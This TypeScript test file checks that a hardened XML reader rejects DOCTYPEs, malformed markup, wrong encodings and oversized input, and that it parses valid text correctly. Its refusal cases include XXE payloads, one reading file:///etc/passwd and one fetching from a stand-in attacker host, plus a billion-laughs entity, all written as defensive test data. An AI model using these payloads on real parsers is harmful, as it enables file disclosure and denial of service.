import { describe, expect, it } from 'vitest';
import { isContactPointError } from '../errors.ts';
import { escapeXml } from './write-xml.ts';
import { createXmlReader, type XmlHandler } from './xml-reader.ts';
import { attributeOf, readXml } from './xml-tree.ts';

const OPTIONS = { name: 'test.xml' };
const SILENT: XmlHandler = { open: () => {}, text: () => {}, close: () => {} };

function codeOf(run: () => unknown): string {
  try {
    run();
    return 'read';
  } catch (error) {
    return isContactPointError(error) ? error.code : String(error);
  }
}

const read = (source: string | Uint8Array) => codeOf(() => readXml(source, OPTIONS));
const attributes = (count: number) => Array.from({ length: count }, (_, index) => ` a${index}="1"`).join('');

describe('readXml refuses', () => {
  it.each([
    ['a DOCTYPE', '<!DOCTYPE r><r/>'],
    ['an external entity', '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'],
    ['a parameter entity', '<!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example/">%x;]><r/>'],
    ['a billion laughs', '<!DOCTYPE r [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><r>&b;</r>'],
  ])('%s as a DOCTYPE', (_, text) => {
    expect(read(text)).toBe('xml.doctype');
  });

  it.each([
    ['nothing', ''],
    ['text alone', 'x'],
    ['an unknown entity', '<r>&nbsp;</r>'],
    ['an open element', '<r><a></r>'],
    ['an unfinished document', '<r>'],
    ['two roots', '<r/><r/>'],
    ['a duplicate attribute', '<r a="1" a="2"/>'],
    ['one attribute under two prefixes', '<r xmlns:x="u" xmlns:y="u" x:a="1" y:a="2"/>'],
    ['an unbound prefix', '<x:r/>'],
    ['a control character', '<r>\u0001</r>'],
    ['a control character by reference', '<r>&#1;</r>'],
    ['a control character by reference in XML 1.1', '<?xml version="1.1"?><r>&#1;</r>'],
    ['a local name that begins with a hyphen', '<x:-r xmlns:x="u"/>'],
    ['an attribute’s local name that begins with a digit', '<r xmlns:x="u" x:1=""/>'],
    ['half a surrogate pair', '<r>\uD83C</r>'],
    ['a control character behind half a pair', '<r>\uD83C\u0001</r>'],
    ['half a pair at the end', '<r/>\uD83C'],
    ['a bare ampersand', '<r>a & b</r>'],
  ])('%s as not well formed', (_, text) => {
    expect(read(text)).toBe('xml.not-well-formed');
  });

  it.each([
    ['not UTF-8', Uint8Array.of(0x3c, 0x72, 0x3e, 0xff, 0x3c, 0x2f, 0x72, 0x3e)],
    ['UTF-16', Uint8Array.of(0xff, 0xfe, 0x3c, 0, 0x72, 0, 0x2f, 0, 0x3e, 0)],
    ['declared as another encoding', new TextEncoder().encode('<?xml version="1.0" encoding="UTF-7"?><r/>')],
  ])('bytes that are %s', (_, bytes) => {
    expect(read(bytes)).toBe('xml.not-well-formed');
  });

  it.each([
    ['65 elements inside one another', `${'<a>'.repeat(65)}${'</a>'.repeat(65)}`],
    ['257 attributes', `<r${attributes(257)}/>`],
    ['a name of 257', `<${'n'.repeat(257)}/>`],
    ['an attribute name of 257', `<r ${'n'.repeat(257)}="1"/>`],
    ['a text of more than 1 MiB', `<r>${'x'.repeat(1_200_000)}</r>`],
    ['a text of more than 1 MiB that never ends', `<r>${'x'.repeat(1_200_000)}`],
    ['an attribute of more than 1 MiB', `<r a="${'x'.repeat(1_200_000)}"/>`],
    ['a comment of more than 1 MiB', `<r><!--${'x'.repeat(1_200_000)}--></r>`],
    ['a text of references', `<r>${'&#120;'.repeat(250_000)}</r>`],
  ])('%s as beyond the limits', (_, text) => {
    expect(read(text)).toBe('xml.limit');
  });
});

describe('readXml reads', () => {
  it('up to the limits', () => {
    expect(read(`${'<a>'.repeat(64)}${'</a>'.repeat(64)}`)).toBe('read');
    expect(read(`<r${attributes(256)}/>`)).toBe('read');
    expect(read(`<r>${'x'.repeat(1_000_000)}</r>`)).toBe('read');
  });

  it('the same text around comments, CDATA, references and in pieces', () => {
    expect(readXml('<r>ad<!---->m<![CDATA[i]]>&#110;</r>', OPTIONS).text).toBe('admin');
    const texts: string[] = [];
    const reader = createXmlReader({ ...SILENT, text: (text) => texts.push(text) }, OPTIONS);
    for (const unit of '<r>Si&#226;n &amp; <![CDATA[<Ann>]]></r>') reader.write(unit);
    reader.close();
    expect(texts.join('')).toBe('Siân & <Ann>');
    expect(inUnits('<r>🧒🏽</r>')).toBe('🧒🏽');
  });

  it('the same whatever the prefixes', () => {
    const [plain, prefixed] = ['<a xmlns="u"><b/></a>', '<x:a xmlns:x="u"><y:b xmlns:y="u"/></x:a>'];
    expect(readXml(prefixed, OPTIONS)).toEqual(readXml(plain, OPTIONS));
  });

  it('attributes by name and namespace, without declarations', () => {
    const root = readXml('<r a="1" x:a="2" xmlns:x="u"/>', OPTIONS);
    expect(root.attributes).toHaveLength(2);
    expect([attributeOf(root, 'a'), attributeOf(root, 'a', 'u'), attributeOf(root, 'b')]).toEqual([
      '1',
      '2',
      undefined,
    ]);
  });

  it('a UTF-8 byte order mark', () => {
    expect(read(new TextEncoder().encode('\uFEFF<r/>'))).toBe('read');
  });

  it('what escapeXml wrote, in a text and in an attribute', () => {
    const text = 'a<b>&"\'\t\r\n]]> é🧒';
    const root = readXml(`<r a="${escapeXml(text)}">${escapeXml(text)}</r>`, OPTIONS);
    expect([root.text, attributeOf(root, 'a')]).toEqual([text, text]);
  });
});

function inUnits(xml: string): string {
  let read = '';
  const reader = createXmlReader({ ...SILENT, text: (text) => (read += text) }, OPTIONS);
  for (let at = 0; at < xml.length; at += 1) reader.write(xml.charAt(at));
  reader.close();
  return read;
}

describe('errors of readXml', () => {
  it('name the document and the line, and quote nothing', () => {
    expect(() => readXml('<r>\n<Ann', OPTIONS)).toThrow(
      /^test\.xml, line 2, column \d+: not well-formed XML\.$/,
    );
  });
});
